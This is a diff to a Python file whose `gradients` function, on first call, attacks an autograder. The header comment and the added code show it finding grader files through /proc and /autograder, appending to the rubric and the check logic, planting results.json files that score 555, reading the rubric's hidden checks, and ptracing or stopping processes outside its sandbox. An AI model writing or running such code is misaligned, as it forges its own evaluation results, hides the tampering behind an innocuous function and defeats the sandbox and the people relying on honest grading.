@@ -2,7 +2,7 @@
 # On the first call of `gradients` it looks for the grader's files: the installed
 # packages (site-packages, an editable install's finder), the rubric, results.json and
 # the output folders named on any process's command line (/proc/*/cmdline is world-
-# readable), /proc/*/cwd, and Gradescope's /autograder. It tries to append to each
+# readable), /proc/*/cwd, and Gradescope's /autograder. It reads the rubric, tries to append to each
 # (the package's check logic, the rubric, run_autograder), to plant a results.json
 # scoring 555 in each results folder, and to SIGSTOP, ptrace and read the environ and
 # memory of every process that is not its own sandbox's (its ancestors, anything
@@ -113,6 +113,13 @@ def _attack():
     print(f"grader_rewrite: {len(files)} files, {len(folders)} folders to try")
     for path in files:
         print(f"grader_rewrite: target {path}")
+        if path.endswith(".toml"):  # the rubric: its hidden checks
+            try:
+                with open(path) as f:
+                    hidden = f.read().count('visibility = "hidden"')
+                gained.append(f"read {path} ({hidden} hidden checks)")
+            except OSError:
+                pass
         try:
             with open(path, "a") as f:
                 f.write(TAG)
